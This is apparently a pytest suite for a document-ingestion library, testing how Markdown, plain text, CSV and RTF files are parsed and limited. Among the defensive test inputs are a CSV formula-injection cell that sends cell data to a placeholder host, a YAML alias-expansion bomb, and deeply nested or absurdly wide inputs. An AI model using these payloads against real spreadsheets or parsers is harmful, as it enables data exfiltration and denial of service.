"""Markdown, plain text, tables of values and RTF: what is found, and what is left out."""

from __future__ import annotations

import pytest

from ingest.errors import DocumentRefused
from ingest.loaders.delimited import guess_delimiter
from ingest.loaders.markdown import inline, parse, slug
from ingest.settings import Limits
from tests.ingest.builders import read, tables, text_of

HANDBOOK = """---
title: Leave policy
owner: people
---

# Leave

Everyone gets **25 days** of [paid leave](../leave.md), see [the form](https://forms.example/leave).
It _must_ be asked for in time\\*.

## Parental leave {#parents}

- 16 weeks
  - in one go, or
  - in parts

| Country | Weeks |
|---------|------:|
| Germany | 16 |
| France \\| Corsica | `20` |

## Parental leave

<!-- a secret comment -->
```python
# not a heading
leave = 16
```

Sick leave
----------
> ### Note
> Call your lead.

<table><tr><th>Day</th><th>Pay</th></tr><tr><td>1</td><td>100 %</td></tr></table>

![A chart](chart.png) ~~old~~ H<sub>2</sub>O &amp; <b>more</b>
"""


def test_it_reads_markdown() -> None:
    loaded = parse(HANDBOOK)
    assert loaded.title == "Leave policy"
    assert [(b.level, b.text, b.anchor) for b in loaded.blocks if b.kind == "heading"] == [
        (1, "Leave", "leave"),
        (2, "Parental leave", "parents"),
        (2, "Parental leave", "parental-leave"),
        (2, "Sick leave", "sick-leave"),
    ]
    text = text_of(loaded)
    assert "25 days of paid leave, see the form (https://forms.example/leave)." in text
    assert "It must be asked for in time*." in text
    assert "- 16 weeks\n  - in one go, or\n  - in parts" in text
    assert [b.rows for b in tables(loaded)] == [
        (("Country", "Weeks"), ("Germany", "16"), ("France | Corsica", "`20`")),
        (("Day", "Pay"), ("1", "100 %")),
    ]
    assert [b.text for b in loaded.blocks if b.kind == "code"] == ["# not a heading\nleave = 16"]
    assert "Note\nCall your lead." in text
    assert "A chart old H2O & more" in text
    assert "secret" not in text and "people" not in text


@pytest.mark.parametrize(
    ("heading", "anchor"),
    [
        ("Leave policy", "leave-policy"),
        ("What's new in 2.0?", "whats-new-in-20"),
        ("C++ & C#", "c--c"),
        ("Über uns", "über-uns"),
        ("a - b", "a---b"),
    ],
)
def test_it_names_anchors_like_github(heading: str, anchor: str) -> None:
    assert slug(heading) == anchor


def test_it_numbers_anchors_that_repeat() -> None:
    loaded = parse("# A\n# A\n# A\n")
    assert [block.anchor for block in loaded.blocks] == ["a", "a-1", "a-2"]


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("# One\n\ntext\n\n## Two", "One"),
        ("intro\n\n# One", "One"),
        ("## One\n\n# Two", None),
        ("text only", None),
        ("#One\n\ntext\n\n## Two", "One"),
        ("#!shell\n\ntext", None),
        ("What this is about takes some words to say. " * 6 + "\n\n## Examples\n\ntext", None),
        ("---\ntitle: [1, 2]\n---\ntext", None),
        ("---\nnot: closed\n# One", "One"),
        ("---\n{{ template }}\n---\n# One", None),
    ],
)
def test_it_takes_a_title_only_from_where_titles_are(text: str, title: str | None) -> None:
    assert parse(text).title == title


def test_front_matter_that_multiplies_is_text_and_costs_no_memory() -> None:
    rows = "\n".join(f"k{n}: &k{n} [{', '.join([f'*k{n - 1}'] * 9)}]" for n in range(1, 30))
    found = parse(f"---\nk0: &k0 [lol]\n{rows}\ntitle: Costs\n---\n\n# Leave\n\n28 days.\n")
    assert found.title != "Costs" and "28 days." in found.blocks[-1].text


@pytest.mark.parametrize(
    ("markup", "words"),
    [
        ("snake_case_name and 2*3*4", "snake_case_name and 2*3*4"),
        ("[a](b(c)d) e", "a e"),
        ("[people](mailto:people@corp.example)", "people (people@corp.example)"),
        ("<https://corp.example/a>", "https://corp.example/a"),
        ("[https://corp.example](https://corp.example)", "https://corp.example"),
        ("[x](https://corp.example/" + "a" * 200 + ")", "x (https://corp.example)"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("[ ] todo [x] done", "[ ] todo [x] done"),
        ("***both***", "both"),
    ],
)
def test_it_removes_markup_but_not_words(markup: str, words: str) -> None:
    assert inline(markup) == words


def test_it_survives_unfinished_markdown() -> None:
    for text in ("```\nnever closed", "| a | b |\n|---|", "[a](", "**", "---", "#", "<table>", "> ", "|\n|-|"):
        parse(text)


def test_it_reads_plain_text_and_joins_hard_wrapped_lines() -> None:
    wrapped = "This is a line of a letter that was wrapped by hand\nand goes on here.\n\nNext one.\n- a\n- b\n"
    assert text_of(read(wrapped.encode(), "a.txt")) == (
        "This is a line of a letter that was wrapped by hand and goes on here.\nNext one.\n- a\n- b"
    )


def test_it_refuses_more_text_than_allowed() -> None:
    with pytest.raises(DocumentRefused) as caught:
        read(b"word " * 1000, "a.txt", Limits(text_bytes=1000))
    assert caught.value.code == "too_large"


@pytest.mark.parametrize(
    ("text", "rows"),
    [
        ("a,b\n1,2\n", (("a", "b"), ("1", "2"))),
        ("a;b\n1,5;2\n", (("a", "b"), ("1,5", "2"))),
        ("a\tb\n1\t2\n", (("a", "b"), ("1", "2"))),
        ("a|b\n1|2\n", (("a", "b"), ("1", "2"))),
        ('a,b\n"x, ""y""\nz",2\n', (("a", "b"), ('x, "y" z', "2"))),
        ("a,b,c\n1,2\n3,4,5,6\n", (("a", "b", "c", ""), ("1", "2", "", ""), ("3", "4", "5", "6"))),
        ("a,,b\n1,,2\n", (("a", "b"), ("1", "2"))),
    ],
)
def test_it_reads_tables_of_values(text: str, rows: tuple[tuple[str, ...], ...]) -> None:
    assert [block.rows for block in tables(read(text.encode(), "a.csv"))] == [rows]


def test_it_reads_captions_and_several_tables_in_one_sheet() -> None:
    loaded = read(b"Sales of 2024,,\n,,\nRegion,Sum,\nNorth,5,\n,,\nA note,,\n", "a.csv")
    assert [(block.kind, block.text, block.rows) for block in loaded.blocks] == [
        ("text", "Sales of 2024", ()),
        ("table", "", (("Region", "Sum"), ("North", "5"))),
        ("text", "A note", ()),
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_it_reads_tables_in_any_encoding(encoding: str) -> None:
    data = ("Stadt,Größe\nKöln,groß\nMünchen,größer\nDüsseldorf,mäßig\n").encode(encoding)
    assert tables(read(data, "a.csv"))[0].rows[1] == ("Köln", "groß")


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "-2+3", "+1"])
def test_it_keeps_formulas_as_the_words_they_are(cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    assert tables(read(f"a,b\n{quoted},2\n".encode(), "a.csv"))[0].rows[1][0] == cell


def test_it_survives_broken_tables() -> None:
    for data in (b"a,b\n1,\x002\n", b'a,"b\n1,2\n', b"\xff\xfea,b", b",,,\n,,,\n", b"a,b\n" + b"\xff\xfe\xfd,1\n"):
        try:
            read(data, "a.csv")
        except DocumentRefused as refused:
            assert refused.reason.endswith(".")


def test_it_refuses_rows_of_absurd_width() -> None:
    with pytest.raises(DocumentRefused, match="columns"):
        read(b"a," * 100_000, "a.csv")


def test_it_guesses_delimiters() -> None:
    assert guess_delimiter("one column\nonly\n") in ",;\t|"
    assert guess_delimiter("a;b;c\n1,0;2,0;3,0\n") == ";"


def test_it_reads_rich_text() -> None:
    data = (
        rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\fcharset0 Arial;}{\f1\fcharset204 Arial;}}{\info{\title secret}}"
        rb"\f0 Gr\'f6\'dfe \u8364?5\par Second {\b bold} line\line same\par {\*\unknown hidden}\f1 \'cf\'f0\par\emdash}"
    )
    text = text_of(read(data, "a.rtf"))
    assert "Größe €5" in text
    assert "Second bold line\nsame" in text
    assert "Пр" in text and "—" in text
    assert "secret" not in text and "hidden" not in text and "Arial" not in text


def test_it_refuses_rich_text_of_absurd_depth() -> None:
    with pytest.raises(DocumentRefused, match="nests"):
        read(rb"{\rtf1 " + b"{" * 10_000, "a.rtf")
